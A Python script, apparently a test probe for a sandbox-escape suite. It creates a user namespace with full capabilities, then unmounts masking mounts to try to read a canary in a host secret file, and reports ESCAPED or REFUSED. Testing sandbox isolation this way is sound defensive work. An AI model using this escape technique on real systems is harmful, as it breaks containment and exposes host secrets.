"""Makes a user namespace, where it has every capability, and mounts and looks about in there.
Success: from within, the secret file of the host can be read or a process of the host seen."""
import ctypes
import errno
import json
import os
import re

FACTS = json.loads(os.environ.get("HOST_FACTS", "{}"))
LIBC = ctypes.CDLL(None, use_errno=True)


def call(name, *args):
    """Calls the C library; an error becomes an OSError."""
    result = getattr(LIBC, name)(*args)
    if result < 0:
        raise OSError(ctypes.get_errno(), name)
    return result


def say(text):
    print(text, flush=True)


def attempt(what, action):
    """Prints the proof that the action returns, or why there is none."""
    try:
        proof = action()
        say("ESCAPED: %s (%s)" % (proof, what) if proof else "REFUSED: no effect (%s)" % what)
    except KeyError as missing:
        say("REFUSED: no fact %s (%s)" % (missing.args[0], what))
    except OSError as error:
        say("REFUSED: %s (%s)" % (errno.errorcode.get(error.errno, error), what))


def canary(data):
    found = re.search(rb"CANARY-[\w.-]+", data)
    return found.group().decode() if found else None


NEW_MOUNTS, NEW_USER, PRIVATE = 0x20000, 0x10000000, 0x44000


def capabilities():
    with open("/proc/self/status") as file:
        return int(re.search(r"CapEff:\s+(\w+)", file.read()).group(1), 16)


MOUNTS_AT_FIRST = os.readlink("/proc/self/ns/mnt")


def unshare():
    uid = os.getuid()
    call("unshare", NEW_USER | NEW_MOUNTS)
    with open("/proc/self/uid_map", "w") as file:
        file.write("0 %d 1" % uid)
    if capabilities():
        say("REACHED: a user namespace with capabilities %x" % capabilities())


def remounted():
    """Takes masks off: what lies below a mount of the sandbox may be the host's."""
    if os.readlink("/proc/self/ns/mnt") == MOUNTS_AT_FIRST:
        return None
    call("mount", None, b"/", None, PRIVATE, None)
    for _ in range(3):
        call("umount2", os.path.dirname(FACTS["hostSecretFile"]).encode(), 2)
    return secret()


def secret():
    with open(FACTS["hostSecretFile"], "rb") as file:
        return canary(file.read())


say("begin")
attempt("unshare", unshare)
attempt("secret", secret)
attempt("unmount", remounted)
